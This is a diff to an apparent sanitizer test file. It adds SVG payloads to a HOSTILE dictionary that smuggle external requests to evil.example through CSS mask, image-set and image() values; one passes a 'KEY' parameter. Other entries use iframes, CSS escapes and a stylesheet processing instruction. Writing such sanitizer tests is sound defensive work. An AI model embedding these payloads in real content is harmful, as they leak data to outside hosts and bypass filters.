@@ -26,6 +26,9 @@ HOSTILE = {
     "css escape": '<svg><rect style="fill: u\\72l(https://evil.example/)"/></svg>',
     "data url filter": '<svg><rect filter="url(data:image/svg+xml;base64,AAAA)"/></svg>',
     "iframe": '<svg><iframe src="https://evil.example"/></svg>',
+    "mask image-set": '<svg><rect mask="image-set(\'https://evil.example/x?d=KEY\' 1x)"/></svg>',
+    "style mask image-set": '<svg><rect style="mask: -webkit-image-set(\'https://evil.example/x\' 1x)"/></svg>',
+    "style mask image": '<svg><rect style="mask: image(\'https://evil.example/x.png\')"/></svg>',
     "processing instruction": '<?xml-stylesheet href="https://evil.example/a.xsl"?><svg><circle r="1"/></svg>',
 }
 
